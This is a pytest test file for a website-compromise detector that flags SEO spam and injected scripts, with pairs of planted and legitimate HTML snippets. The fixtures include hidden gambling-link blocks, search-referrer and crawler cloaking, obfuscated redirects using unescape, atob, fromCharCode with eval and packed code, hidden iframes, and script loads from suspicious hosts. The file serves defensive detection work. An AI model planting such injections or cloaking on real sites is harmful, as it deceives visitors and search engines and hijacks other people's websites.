"""Compromise checks: silent on 82 real legitimate pages, loud on planted content."""

from __future__ import annotations

import os
from datetime import UTC, datetime
from pathlib import Path

import pytest

from checks.model import Asset, DnsAnswer, DnsStatus, Hop, HttpEntry, Kind, ProbeOutcome
from checks.rules import RuleContext, evaluate
from checks.rules.compromise import page_baseline, similarity, visible_text
from checks.text import decode_body, extract_title

NOW = datetime(2026, 11, 29, tzinfo=UTC)
CORPUS = Path(__file__).resolve().parents[2] / "shared" / "corpus" / "clean"
PAGES = sorted(CORPUS.glob("*.html"))


def outcome(body: bytes, host="www.example-company.test", spider: bytes | None = None):
    asset = Asset(host, Kind.WEBSITE, "IT")
    url = f"https://{host}/"

    def entry(data: bytes) -> HttpEntry:
        return HttpEntry(
            url,
            status=200,
            hops=(Hop(url, 200),),
            final_url=url,
            headers=(("content-type", "text/html"),),
            body=data,
            title=extract_title(decode_body(None, data)),
        )

    return ProbeOutcome(
        asset,
        NOW,
        NOW,
        DnsAnswer(host, DnsStatus.ANSWER, ("127.0.0.1",)),
        (entry(body),),
        spider=entry(spider) if spider is not None else None,
    )


def compromise(o, baseline=None):
    return {f.check for f in evaluate(o, RuleContext(NOW, baseline=baseline))} & {
        "seo-spam",
        "injected-script",
    }


def test_the_corpus_is_there():
    # shared/corpus/ sits beside the checkout on the developers' machines and in CI.
    if not CORPUS.exists() and not os.environ.get("CI"):
        pytest.skip(f"no corpus at {CORPUS}")
    assert len(PAGES) >= 80


@pytest.mark.parametrize("page", PAGES, ids=[p.stem for p in PAGES])
def test_legitimate_pages_raise_no_compromise_finding(page):
    body = page.read_bytes()
    assert compromise(outcome(body)) == set()
    # the page against its own baseline: nothing new either
    assert (
        compromise(
            outcome(body),
            page_baseline(Asset("www.example-company.test"), body.decode("utf-8", "replace")),
        )
        == set()
    )


def test_hidden_gambling_links_are_spam():
    body = (
        '<p>About us</p><div style="display:none"><a href="http://a.example.net/">百家乐</a>'
        '<a href="http://b.example.net/">澳门新葡京</a></div>'
    ).encode()
    assert "seo-spam" in compromise(outcome(body))


def test_one_word_or_own_links_are_not_spam():
    one = '<div style="display:none"><a href="http://a.example.net/">百家乐</a></div>'.encode()
    assert compromise(outcome(one)) == set()
    own = (
        '<div style="display:none"><a href="https://www.example-company.test/a">百家乐</a>'
        '<a href="/b">澳门新葡京</a></div>'
    ).encode()
    assert compromise(outcome(own)) == set()


def test_visible_bulk_spam_links_are_spam():
    words = ["百家乐", "真人娱乐", "时时彩", "六合彩"]
    body = "".join(
        f'<a href="http://x{i}.example.net/">{w}</a>' for i, w in enumerate(words)
    ).encode()
    assert "seo-spam" in compromise(outcome(body))


def test_search_engine_redirect_is_an_injected_script():
    js = (
        "<script>if(document.referrer.indexOf('baidu')>-1){location.href='http://bad.example.net/'}"
        "</script>"
    )
    assert "injected-script" in compromise(outcome(js.encode()))
    mobile = (
        "<script>if(/iPhone|Android/.test(navigator.userAgent)){location.href='https://m.example-"
        "company.test/'}</script>"
    )
    assert compromise(outcome(mobile.encode())) == set()


def test_cloaking_for_baiduspider():
    people = b"<title>Example Company</title><p>hello</p>"
    spider = "<title>澳门新葡京娱乐城</title>".encode()
    assert "injected-script" in compromise(outcome(people, spider=spider))
    assert compromise(outcome(people, spider=people)) == set()


def test_new_script_host_against_the_baseline():
    before = '<script src="https://hm.baidu.com/hm.js"></script><p>hi</p>'
    after = before + '<script src="https://cdn.evil-stats.example.net/x.js"></script>'
    baseline = page_baseline(Asset("www.example-company.test"), before)
    assert "injected-script" in compromise(outcome(after.encode()), baseline)
    assert compromise(outcome(before.encode()), baseline) == set()


def test_text_similarity():
    a = visible_text("<p>示例科技发布工业数据平台 3.0 版本，支持边缘设备接入。</p>")
    assert similarity(a, a) == 1.0
    assert similarity(a, visible_text("<p>Hacked by nobody</p>")) < 0.1
    assert similarity(a, a + " 新增一行") > 0.5


# -- every signal: a positive and a hard negative ----------------------------------------

BASE = "<!DOCTYPE html><html><head><title>示例科技 - 官方网站</title></head><body>{}</body></html>"
LINKS = '<a href="http://www.am8899.com/">澳门新葡京娱乐</a><a href="http://www.js6688.cc/">百家乐平台</a>'
SPAM = "seo-spam"
INJECTED = "injected-script"

SIGNALS = [
    # (signal, positive snippet, hard-negative snippet, check)
    (
        "hidden by an inline style",
        f'<div style="position:absolute;left:-9999px">{LINKS}</div>',
        '<div style="display:none"><a href="https://www.lottery.gov.cn/">体育彩票</a>'
        '<a href="https://www.sport.gov.cn/">足球</a></div>',
        SPAM,
    ),
    (
        "hidden by a <style> class rule",
        f"<style>@import url(a.css);.yq{{display:none}}</style><div class=yq>{LINKS}</div>",
        "<style>.sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}"
        '</style><a class="sr-only" href="#main">跳到主要内容</a>',
        SPAM,
    ),
    (
        "hidden by a descendant or id rule",
        f"<style>#ft .lk a{{visibility:hidden}}</style><div id=ft><p class=lk>{LINKS}</p></div>",
        "<style>.nav .sub{display:none}</style><ul class=nav><li class=sub>"
        '<a href="https://www.gov.cn/">中国政府网</a></li></ul>',
        SPAM,
    ),
    (
        "hidden by a script after load",
        f'<div id="z1">{LINKS}</div><script>document.getElementById("z1").style.display="none"'
        "</script>",
        '<div id="loading">加载中…</div><script>document.getElementById("loading").style.display='
        '"none"</script>',
        SPAM,
    ),
    (
        "opacity:0",
        f'<div style="opacity:0">{LINKS}</div>',
        '<div class="wow" style="opacity:0"><a href="https://www.example.org/">产品中心</a></div>',
        SPAM,
    ),
    (
        "text coloured like its background",
        f'<div style="background:#f5f5f5"><font color="#f5f5f5">{LINKS}</font></div>',
        '<div style="background:#003366;color:#ffffff"><a href="https://www.gov.cn/">政务服务</a>'
        "</div>",
        SPAM,
    ),
    (
        "a 1-pixel marquee",
        f'<marquee width="1" height="1">{LINKS}</marquee>',
        '<marquee direction="left">欢迎访问示例科技，热烈祝贺公司成立二十周年！</marquee>',
        SPAM,
    ),
    (
        "a framework class that hides",
        f'<div class="d-none">{LINKS}</div>',
        '<nav class="hidden"><a href="/">首页</a><a href="https://www.12377.cn/">举报中心</a></nav>',
        SPAM,
    ),
    (
        "inside <noscript>",
        f"<noscript>{LINKS}</noscript>",
        '<noscript><a href="https://www.cnzz.com/stat/website.php?web_id=1">站长统计</a></noscript>',
        SPAM,
    ),
    (
        "links written by document.write, in pieces",
        "<script>document.write('<div style=\"display:none\">');document.write('"
        + LINKS.replace("'", "\\'")
        + "');document.write('</div>');</script>",
        "<script>document.write('<a href=\"http://bszs.conac.cn/sitename?id=1\">党政机关</a>');"
        "document.write(new Date().getFullYear());</script>",
        SPAM,
    ),
    (
        "links recovered from unescape()",
        "<script>document.write(unescape('%3Cdiv%20style%3D%22display%3Anone%22%3E"
        "%3Ca%20href%3D%22http%3A//www.am8899.com/%22%3E%u6FB3%u95E8%u65B0%u8461%u4EAC%u5A31%u4E50"
        "%3C/a%3E%3Ca%20href%3D%22http%3A//www.js6688.cc/%22%3E%u767E%u5BB6%u4E50%3C/a%3E%3C/div%3E'));"
        "</script>",
        "<script>var cnzz_protocol = (('https:' == document.location.protocol) ? 'https://' : "
        "'http://');document.write(unescape(\"%3Cspan id='cnzz_stat_icon_1'%3E%3C/span%3E%3Cscript "
        "src='\" + cnzz_protocol + \"s9.cnzz.com/z_stat.php%3Fid%3D1' type='text/javascript'%3E"
        '%3C/script%3E"));</script>',
        SPAM,
    ),
    (
        "keywords split by zero-width characters",
        '<a href="http://www.am8899.com/">百\u200b家\u200b乐</a>',
        "<p>示例\u200b科技\ufeff欢迎您</p>",
        SPAM,
    ),
    (
        "English spam, whole words",
        '<div style="display:none"><a href="https://x.example/">Slot Gacor Maxwin</a>'
        '<a href="https://y.example/">buy viagra online</a></div>',
        '<div style="display:none"><a href="https://x.example/">Book a timeslot</a>'
        '<a href="https://y.example/">Judi Dench in Casino Royale</a></div>',
        SPAM,
    ),
    (
        "spam links in bulk to several sites",
        '<p><a href="http://a1.example.net/">百家乐</a><a href="http://b2.example.org/">六合彩</a>'
        '<a href="http://c3.example.com/">真人娱乐</a></p>',
        '<p><a href="https://www.mps.gov.cn/1">警方破获“百家乐”赌博案</a>'
        '<a href="https://www.mps.gov.cn/2">打击“六合彩”非法活动</a>'
        '<a href="https://www.court.gov.cn/">涉“真人娱乐”赌博平台案件宣判</a></p>',
        SPAM,
    ),
    (
        "news that mentions Macau and the sports lottery",
        None,
        '<ul><li><a href="https://www.xinhuanet.com/">工会组织职工赴澳门交流，参观大三巴牌坊和威尼斯人度假村'
        '</a></li><li><a href="https://www.lottery.gov.cn/">关于2024年度体育彩票公益金使用情况的公告</a></li>'
        "</ul>",
        SPAM,
    ),
    # injected-script
    (
        "referrer cloaking in bracket notation",
        '<script>var r=window["document"]["referrer"];if(/baidu|sogou/.test(r)){window["location"]'
        '["href"]="http://www.am8899.com/";}</script>',
        "<script>if(document.referrer.indexOf('news.baidu.com')>=0){$('#ad').empty();}</script>",
        INJECTED,
    ),
    (
        "crawler cloaking that rewrites the title",
        "<script>var ua=navigator.userAgent.toLowerCase();if(/baiduspider|360spider/.test(ua))"
        '{document.title="澳门新葡京娱乐-百家乐平台";}</script>',
        '<script>if(navigator.userAgent.toLowerCase().indexOf("sogou")>-1){document.getElementById'
        '("tip").innerHTML="您正在使用搜狗浏览器";}</script>',
        INJECTED,
    ),
    (
        "an unconditional redirect to another site",
        '<script>setTimeout(function(){top.location.href="http://www.am8899.com/"},800);</script>',
        '<script>function go(){window.location.href="https://www.baidu.com/s?wd="+q}'
        "this.top.location!==this.location&&(this.top.location=this.location);</script>",
        INJECTED,
    ),
    (
        "a mobile-only redirect to a suspicious host",
        "<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.replace("
        '"http://m.am8899.xyz/")}</script>',
        "<script>if(/Android|iPhone/i.test(navigator.userAgent)){location.replace("
        '"http://wap.cac.gov.cn/")}</script>',
        INJECTED,
    ),
    (
        "a meta refresh to another site",
        '<meta http-equiv="refresh" content="0;url=http://www.am8899.com/">',
        '<noscript><meta http-equiv="refresh" content="0;url=https://www.gov.cn/nojs.html"></noscript>',
        INJECTED,
    ),
    (
        "an atob() target",
        '<script>window.location.href=atob("aHR0cDovL3d3dy5hbTg4OTkuY29tLw==");</script>',
        "<script>var t=atob('5L2g5aW9');console.log(t)</script>",
        INJECTED,
    ),
    (
        "String.fromCharCode over an array",
        "<script>var c=[108,111,99,97,116,105,111,110,46,104,114,101,102,61,39,104,116,116,112,58,"
        "47,47,119,119,119,46,97,109,56,56,57,57,46,99,111,109,47,39],s='';for(var i=0;i<c.length;"
        "i++){s+=String.fromCharCode(c[i])}eval(s)</script>",
        "<script>var crc=[0,1996959894,3993919788,2567524794,124634137,1886057615,3915621685,"
        "2657392035];function h(s){return String.fromCharCode(s.charCodeAt(0)^1)}</script>",
        INJECTED,
    ),
    (
        "the packer, any payload",
        None,
        None,
        INJECTED,
    ),
    (
        "a script host with traits (IP, port, TLD, random name, look-alike)",
        '<script src="http://154.23.11.5:8080/j.js"></script>'
        '<script src="//cdn.jquery-cdn.top/a.js"></script>',
        '<script src="https://cdn.bootcdn.net/ajax/libs/jquery/3.6.0/jquery.min.js"></script>'
        '<script src="//dsh7ky7308k4b.cloudfront.net/p.js"></script>'
        '<script src="https://hm.baidu.com/hm.js?0123"></script>'
        '<script src="//sdk.51.la/js-sdk-pro.min.js"></script>',
        INJECTED,
    ),
    (
        "a script from an unknown host appended after </html>",
        None,
        None,
        INJECTED,
    ),
    (
        "a hidden iframe",
        '<iframe src="http://www.am8899.com/" width="0" height="0" frameborder="0"></iframe>',
        '<noscript><iframe src="https://www.googletagmanager.com/ns.html?id=GTM-1" height="0"'
        ' width="0" style="display:none;visibility:hidden"></iframe></noscript>',
        INJECTED,
    ),
    (
        "obfuscator marks with page actions",
        "<script>var _0xod8='jsjiami.com.v6';(function(){window.location='http://www.am8899.com/'})()"
        "</script>",
        "<script>var _0x1a2b=['a','b'];function _0x3c(i){return _0x1a2b[i]}console.log(_0x3c(0))"
        "</script>",
        INJECTED,
    ),
]


def _fires(snippet, check, page=BASE):
    html = page.format(snippet) if "{}" in page else page
    return check in compromise(outcome(html.encode()))


@pytest.mark.parametrize(
    ("signal", "positive", "negative", "check"), SIGNALS, ids=[s[0] for s in SIGNALS]
)
def test_each_signal_fires_and_stays_silent_on_its_hard_negative(signal, positive, negative, check):
    if positive is not None:
        assert _fires(positive, check), signal
    if negative is not None:
        assert compromise(outcome(BASE.format(negative).encode())) == set(), signal


def _titled(title, body=""):
    page = f"<!DOCTYPE html><html><head><title>{title}</title></head><body>{body}</body></html>"
    return compromise(outcome(page.encode()))


def test_title_hijack_entities_and_restore():
    assert "seo-spam" in _titled("澳门新葡京娱乐-百家乐平台-示例科技")
    one_in_entities = "".join(f"&#x{ord(c):x};" for c in "百家乐") + " 示例科技"
    assert "seo-spam" in _titled(one_in_entities)
    restore = '<script>document.title="示例科技 - 官方网站";</script>'
    assert "seo-spam" in _titled("开云体育官方网站 示例科技", restore)
    assert _titled("开云体育官方网站 示例科技") == set()  # one word, no dodge: not enough
    # hard negatives: police news and a lottery fund notice; a reporting site's own name
    # after the spam does not make the spam news
    assert _titled("市公安局破获“百家乐”“时时彩”网络赌博案") == set()
    assert _titled("关于体育彩票公益金使用情况的公告 - 市体育局") == set()
    assert "seo-spam" in _titled("澳门新葡京-百家乐平台-互联网违法和不良信息举报中心")


def test_packed_payloads_are_unpacked():
    from tests.tampering.encode import pack

    redirect = pack('window.location.href="http://www.am8899.com/";')
    assert _fires(f"<script>{redirect}</script>", INJECTED)
    # a packed Google Analytics loader (as on 082-en-medicalnewstoday) stays silent
    analytics = pack(
        "(function(i,s,o,g,r,a,m){a=s.createElement(o);a.src=g;m=s.getElementsByTagName(o)[0];"
        "m.parentNode.insertBefore(a,m)})(window,document,'script',"
        "'//www.google-analytics.com/analytics.js','ga');"
    )
    assert compromise(outcome(BASE.format(f"<script>{analytics}</script>").encode())) == set()


def test_unknown_script_outside_html_and_known_ones_there():
    after = BASE + '<script src="https://js.statcenter-cn.com/count.js"></script>'
    assert "injected-script" in compromise(outcome(after.format("").encode()))
    cnzz = BASE + '<script src="https://s4.cnzz.com/z_stat.php?id=1&web_id=1"></script>'
    assert compromise(outcome(cnzz.format("").encode())) == set()
    # in the page, an unknown host with no suspicious trait is not judged without a baseline
    plain = BASE.format('<script src="https://js.statcenter-cn.com/count.js"></script>')
    assert compromise(outcome(plain.encode())) == set()


def test_the_pages_own_site_comes_from_its_canonical_url():
    loader = (
        "<script>document.write(unescape('%3Cscript%20src%3D%22https%3A//img.gmw.cn/js/a.js%22%3E"
        "%3C/script%3E'));</script>"
    )
    own = BASE.replace("</head>", '<link rel="canonical" href="https://tech.gmw.cn/x.htm"></head>')
    assert compromise(outcome(own.format(loader).encode())) == set()
    assert "injected-script" in compromise(outcome(BASE.format(loader).encode()))


def test_fetched_own_scripts_are_read_like_inline_code():
    from dataclasses import replace

    from checks.model import ScriptFile

    base = outcome(BASE.format('<script src="/js/site.js"></script>').encode())
    url = "https://www.example-company.test/js/site.js"
    cloak = b"if(document.referrer.indexOf('baidu')>-1){top.location.href='http://www.am8899.com/'}"
    bad = replace(base, scripts=(ScriptFile(url, 200, cloak),))
    assert "injected-script" in compromise(bad)
    fine = replace(base, scripts=(ScriptFile(url, 200, b"$(function(){$('.nav').show()})"),))
    assert compromise(fine) == set()


def test_spam_only_baiduspider_gets_is_read_on_the_spider_page():
    people = BASE.format("<p>欢迎</p>").encode()
    spider = BASE.format(f'<div style="display:none">{LINKS}</div>').encode()
    assert "seo-spam" in compromise(outcome(people, spider=spider))
    assert compromise(outcome(people, spider=people)) == set()


# -- the tampering corpus ------------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus():
    if not CORPUS.exists():
        pytest.skip(f"no corpus at {CORPUS}")
    from tests.tampering import build

    return build(seed=3, per_technique=4)


def test_every_technique_of_the_corpus_is_caught(corpus):
    missed = [
        (s.technique, s.base)
        for s in corpus
        if s.expected and not s.expected <= compromise(outcome(s.page.encode()))
    ]
    assert missed == []


def test_no_hard_negative_of_the_corpus_fires(corpus):
    fired = [
        (s.technique, s.base, found)
        for s in corpus
        if not s.expected and (found := compromise(outcome(s.page.encode())))
    ]
    assert fired == []


def test_a_hostile_3_mib_page_stays_cheap():
    import time

    hostile = [
        "<div>" * 200_000,
        '<a href="http://x.example/">百家乐</a>' * 60_000,
        "<" * 3_000_000,
        "<script>" + 'location.href="http://a.xyz/";' * 100_000 + "</script>",
        "<script>eval(function(p,a,c,k,e,d){}('" + "a " * 1_000_000 + "',62,20000,'w'.split('|')"
        ",0,{}))</script>",
    ]
    for body in hostile:
        page = f"<html><body>{body}</body></html>".encode()
        start = time.process_time()
        compromise(outcome(page))
        # generous: a hostile page costs under 0.3 s here, a normal one 10 ms
        assert time.process_time() - start < 3.0


def test_intranet_addresses_are_the_organisations_own():
    oa = '<script>window.location.href="http://192.168.1.10:8080/seeyon/index.jsp";</script>'
    assert compromise(outcome(BASE.format(oa).encode())) == set()
    public = '<script>window.location.href="http://154.23.11.5:8080/a.html";</script>'
    assert "injected-script" in compromise(outcome(BASE.format(public).encode()))


def test_jquery_getscript_and_full_page_iframes_are_loaders():
    get = '<script>$.getScript("https://cdn.jquery-cdn.top/a.js")</script>'
    assert "injected-script" in compromise(outcome(BASE.format(get).encode()))
    cdn = '<script>$.getScript("https://cdn.bootcdn.net/ajax/libs/jquery.min.js")</script>'
    assert compromise(outcome(BASE.format(cdn).encode())) == set()
    overlay = '<iframe src="http://am8899.com/" style="position:fixed;width:100%;height:100%">'
    assert "injected-script" in compromise(outcome(BASE.format(overlay).encode()))
    video = '<iframe src="https://player.youku.com/embed/x" width="640" height="360"></iframe>'
    assert compromise(outcome(BASE.format(video).encode())) == set()


def test_headlines_about_gambling_cases_are_news_hidden_or_not():
    headlines = "".join(
        f'<li><a href="https://www.mps.gov.cn/{i}">{text}</a></li>'
        for i, text in enumerate(
            [
                "警方破获“百家乐”网络赌博案",
                "严厉打击“六合彩”“时时彩”违法犯罪",
                "涉“真人娱乐”“老虎机”赌博平台案件宣判",
            ]
        )
    )
    tab = f'<div class="tab-pane" style="display:none"><ul>{headlines}</ul></div>'
    assert compromise(outcome(BASE.format(tab).encode())) == set()
    assert compromise(outcome(BASE.format(f"<ul>{headlines}</ul>").encode())) == set()
